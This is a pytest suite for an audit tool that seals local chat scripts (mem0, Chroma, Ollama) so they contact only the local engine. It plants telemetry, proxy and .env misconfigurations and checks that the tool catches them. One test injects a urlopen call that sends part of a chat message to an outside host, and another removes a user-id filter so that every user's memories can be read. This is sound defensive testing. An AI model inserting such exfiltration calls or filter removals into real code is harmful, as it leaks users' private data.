"""The chat scripts under `audit --seal`: nothing but the engine; and each line that keeps it so, taken away."""

from __future__ import annotations

import stat
import sys
from typing import TYPE_CHECKING

import pytest
from trying import AS_AN_OLLAMA_WITH_ITS_CLOUD_PART, CHATS, CHROMA, MEM0, Project, engine

if TYPE_CHECKING:
    from pathlib import Path

TOLD = ("alice", "My dog is called Biscuit.", "What is my dog called?")
UNKIND = {
    "MEM0_TELEMETRY": "True",
    "HTTP_PROXY": "http://proxy.example:3128",
    "NO_PROXY": "elsewhere.example",
}
"""What may be in an environment for the sake of other programs."""

DOT_ENV = """
CHROMA_API_IMPL=chromadb.api.fastapi.FastAPI
CHROMA_SERVER_HOST=chroma.example
CHROMA_SERVER_HTTP_PORT=8000
CHROMA_OTEL_COLLECTION_ENDPOINT=http://otel.example:4317
CHROMA_OTEL_GRANULARITY=all
"""
"""What may lie where a script is run, for the sake of another: Chroma reads it unasked."""

pytestmark = pytest.mark.usefixtures("sealable")


@pytest.mark.parametrize("script", CHATS)
def test_nothing_but_the_engine_is_contacted_whatever_the_environment_says(script: str, project: Project) -> None:
    (project.place / ".env").write_text(DOT_ENV, encoding="utf-8")
    done = project.audit(script, *TOLD, **UNKIND)
    assert done.exit_code == 0, done.stderr
    assert done.claims == {"egress": "upheld", "daemon": "upheld"}
    assert done.contacted == {project.server}
    assert {claim["id"]: claim["level"] for claim in done.log["claims"]}["egress"] == "enforced"
    assert "Biscuit" in done.stdout.splitlines()[1]
    assert done.logs[-1].with_suffix(".html").is_file()


PLANTED = {
    "telemetry left on": (
        MEM0,
        'os.environ["MEM0_TELEMETRY"] =',
        {},
        {"us.i.posthog.com", "raw.githubusercontent.com"},
    ),
    "a proxy left in": (CHROMA, 'os.environ["no_proxy"] =', UNKIND, {"proxy.example"}),
    "a store left to a .env file, Chroma": (CHROMA, 'os.environ["CHROMA_API_IMPL"] =', {}, {"chroma.example"}),
    "a store left to a .env file, mem0": (MEM0, 'os.environ["CHROMA_API_IMPL"] =', {}, {"chroma.example"}),
}


@pytest.mark.parametrize("planted", PLANTED)
def test_without_the_line_it_is_found(planted: str, project: Project) -> None:
    script, line, variables, whom = PLANTED[planted]
    (project.place / ".env").write_text(DOT_ENV, encoding="utf-8")
    project.without(script, line)
    done = project.audit(script, *TOLD, **variables)
    assert done.exit_code == 1, done.stderr
    assert done.claims["egress"] == "broken"
    assert whom <= done.contacted
    for name in whom:
        assert name in done.stderr


@pytest.mark.parametrize("script", CHATS)
def test_a_call_elsewhere_is_found(script: str, project: Project) -> None:
    call = (
        "    import urllib.request as r; r.urlopen('http://192.0.2.10:8080/' + messages[0][:2], timeout=2)\n    there ="
    )
    project.change(script, "    there =", call)
    done = project.audit(script, *TOLD)
    assert done.exit_code == 1, done.stderr
    assert done.claims["egress"] == "broken"
    assert "192.0.2.10:8080" in done.contacted


def test_a_server_elsewhere_is_found(project: Project) -> None:
    done = project.audit(CHROMA, *TOLD, OLLAMA_HOST=f"192.0.2.10:{project.port}")
    assert done.exit_code == 1, done.stderr
    assert done.contacted == {f"192.0.2.10:{project.port}"}


def test_without_the_filter_for_its_user_id_everybody_is_read(project: Project) -> None:
    """What `*` does to mem0, and why the example refuses it."""
    project.chat(MEM0, *TOLD)
    project.change(MEM0, "not user.isalnum()", "not user")
    assert "Biscuit" in project.chat(MEM0, "*", "What is my dog called?")


def stores(project: Project) -> list[Path]:
    return sorted(path.relative_to(project.place) for path in project.place.rglob("*.store"))


@pytest.mark.parametrize("command", [(), (MEM0, *TOLD), (f"./{CHROMA}", *TOLD)])
def test_nothing_of_an_audit_gets_into_your_memories(command: tuple[str, ...], project: Project) -> None:
    """Nothing named is a chat that is told something."""
    done = project.audit(*command)
    assert done.exit_code == 0, done.stderr
    assert "Biscuit" in done.stdout.splitlines()[1]
    assert done.contacted == {project.server}
    (store,) = stores(project)
    script = command[0].removeprefix("./") if command else MEM0
    assert store == done.logs[-1].with_suffix("").relative_to(project.place) / f"{script}.store"  # beside its log
    assert stat.S_IMODE((project.place / store.parent).stat().st_mode) == 0o700
    for user in ("audit", "alice"):
        assert "Biscuit" not in project.chat(script, user, "What is my dog called?")


def test_a_script_of_your_own_is_run_where_it_is(project: Project) -> None:
    (project.place / "beside.py").write_text("", encoding="utf-8")
    (project.place / "own.py").write_text("import beside\nprint(__file__)\n", encoding="utf-8")
    done = project.audit("own.py")
    assert done.exit_code == 0, done.stderr
    assert done.stdout == f"{project.place / 'own.py'}\n"


@pytest.mark.parametrize("host", ["http://127.0.0.1:{port}/", ":{port}", "127.0.0.1:0{port}"])
def test_the_server_is_found_however_it_is_spelled(host: str, project: Project) -> None:
    done = project.audit(CHROMA, *TOLD, OLLAMA_HOST=host.format(port=project.port))
    assert done.exit_code == 0, done.stderr
    assert done.claims == {"egress": "upheld", "daemon": "upheld"}


def test_an_ollama_with_its_cloud_part_leaves_it_open_and_says_what_to_do(project: Project) -> None:
    with engine("-c", AS_AN_OLLAMA_WITH_ITS_CLOUD_PART) as server:
        done = project.audit(CHROMA, *TOLD, OLLAMA_HOST=server)
    assert done.exit_code == 3, done.stderr
    assert done.claims == {"egress": "upheld", "daemon": "inconclusive"}
    assert "OLLAMA_NO_CLOUD=1" in done.stderr, done.stderr


def test_a_script_that_failed_is_no_success(project: Project) -> None:
    (project.place / "own.py").write_text("import sys\nsys.exit(7)\n", encoding="utf-8")
    assert project.audit("own.py").exit_code == 7


def test_a_script_that_is_not_there_is_not_audited(project: Project) -> None:
    done = project.audit("own.py")
    assert done.exit_code == 2
    assert "there is no script own.py" in done.stderr
    assert not done.logs


def test_any_program_is_audited_with_its_arguments(project: Project) -> None:
    program = project.place / "own"
    program.write_text(f"#!{sys.executable}\nimport sys\nprint(sys.argv[1:])\n", encoding="utf-8")
    program.chmod(0o755)
    done = project.audit("./own", "two words", "*")
    assert done.exit_code == 0, done.stderr
    assert done.stdout == "['two words', '*']\n"


def test_where_nothing_can_be_sealed_it_says_so(project: Project, unsealable: tuple[str, ...]) -> None:
    done = project.run(*unsealable, "./audit_my_script.sh", CHROMA, *TOLD)
    assert done.returncode == 4
    assert "cannot be sealed" in done.stderr
    assert not project.logs()
